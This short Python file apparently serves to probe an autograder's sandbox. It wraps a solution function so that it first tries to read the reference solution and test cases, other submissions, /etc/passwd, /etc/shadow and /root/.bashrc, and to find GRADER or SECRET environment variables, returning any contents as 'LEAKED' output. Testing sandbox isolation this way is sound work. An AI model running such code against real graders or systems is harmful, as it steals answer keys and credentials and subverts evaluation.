import glob
import os

_solution_project = project
_TARGETS = ["@ROOT@/reference/ex01/solution.py", "@ROOT@/reference/ex01/cases.py", "/etc/passwd",
            "/etc/shadow", "/root/.bashrc", "@ROOT@/submissions", "@ROOT@/../shared/exercise-01.md", "/home"]

def project(X, W):
    for target in _TARGETS:
        try:
            if os.path.isdir(target):
                if os.listdir(target):
                    return "LEAKED " + target
            else:
                with open(target) as handle:
                    return "LEAKED " + handle.read(100)
        except OSError:
            pass
    if glob.glob("@ROOT@/**/*.py", recursive=True) or glob.glob("/root/*"):
        return "LEAKED listing"
    if any("GRADER" in k or "SECRET" in k for k in os.environ):
        return "LEAKED environment"
    return _solution_project(X, W)
